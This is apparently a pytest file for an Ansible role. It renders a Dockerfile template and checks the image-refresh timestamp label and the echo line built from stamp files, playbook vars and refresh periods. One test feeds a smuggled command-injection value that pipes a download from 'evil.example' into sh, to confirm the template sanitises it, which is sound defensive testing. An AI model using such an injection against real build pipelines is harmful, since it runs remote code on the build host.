"""The refresh stamp in the stack base image's Dockerfile: playbooks/refresh.yml's stamp, the one the server keeps,
the period's (vixtract_image_refresh), and nothing from the server's file that could add to the build command.
Rendered by ansible-playbook from the role's own vars and template, against localhost with no connection."""
import base64
import datetime
import os
import subprocess
import sys

import pytest
import yaml
from conftest import ROOT, tool

PLAYBOOK = """
- hosts: localhost
  connection: local
  gather_facts: false
  vars_files: [{vixtract_defaults}, {docker_host_vars}]
  tasks:
    - name: Render the stack base image's Dockerfile
      ansible.builtin.copy:
        content: "{{{{ lookup('ansible.builtin.template', '{template}') }}}}"
        dest: "{{{{ out }}}}"
        mode: "0644"
"""


@pytest.fixture
def render(tmp_path):
    def run(extra):
        playbook = tmp_path / "render.yml"
        playbook.write_text(PLAYBOOK.format(
            vixtract_defaults=ROOT / "roles/vixtract/defaults/main.yml",
            docker_host_vars=ROOT / "roles/docker_host/vars/main.yml",
            template=ROOT / "roles/docker_host/templates/base.Dockerfile.j2"))
        out = tmp_path / "Dockerfile"
        (tmp_path / "vars.yml").write_text(yaml.safe_dump(dict(extra, out=str(out), ansible_python_interpreter=sys.executable)))
        env = dict(os.environ, ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"), ANSIBLE_NOCOLOR="1")
        proc = subprocess.run([tool("ansible-playbook"), "-i", "localhost,", str(playbook),
                               "-e", f"@{tmp_path / 'vars.yml'}"],
                              cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, check=False)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        lines = out.read_text().splitlines()
        label = [line for line in lines if line.startswith("LABEL org.vixtract.image-refresh=")]
        run_line = [line for line in lines if line.startswith("RUN echo ")]
        assert len(label) == 1 and len(run_line) == 1, lines
        return label[0].split("=", 1)[1], run_line[0]
    return run


def slurped(text):
    return {"docker_host_refresh_file": {"content": base64.b64encode(text.encode()).decode()}}


def test_no_refresh_yet_gives_an_empty_stamp(render):
    label, run = render({"docker_host_refresh_file": {"failed": True, "msg": "file not found"}})
    assert label == '""'
    assert run == "RUN echo '' > /etc/vixtract-image-refresh \\"


def test_refresh_yml_stamp_wins_over_the_kept_one(render):
    label, run = render(dict(slurped("2026-11-01T00:00:00Z\n"), vixtract_image_refresh_stamp="2026-12-03T04:05:06Z"))
    assert label == '"2026-12-03T04:05:06Z"'
    assert "echo 2026-12-03T04:05:06Z >" in run


def test_the_stamp_the_server_keeps_is_used_on_a_re_apply(render):
    label, _unused = render(slurped("2026-11-01T00:00:00Z\n"))
    assert label == '"2026-11-01T00:00:00Z"'


def test_a_tampered_stamp_file_cannot_add_to_the_build_command(render):
    label, run = render(slurped("x'; curl evil.example | sh; echo '\n"))
    assert "'" not in label and ";" not in run and "|" not in run, run
    assert label == '"x curl evil.example  sh echo"'


@pytest.mark.parametrize("period,fmt", [("daily", "%Y-%m-%d"), ("weekly", "%G-W%V"), ("monthly", "%Y-%m")])
def test_a_refresh_period_adds_the_current_period(render, period, fmt):
    label, _unused = render(dict(slurped("2026-11-01T00:00:00Z"), vixtract_image_refresh=period))
    now = datetime.datetime.now(datetime.timezone.utc)
    assert label == f'"2026-11-01T00:00:00Z {now.strftime(fmt)}"'
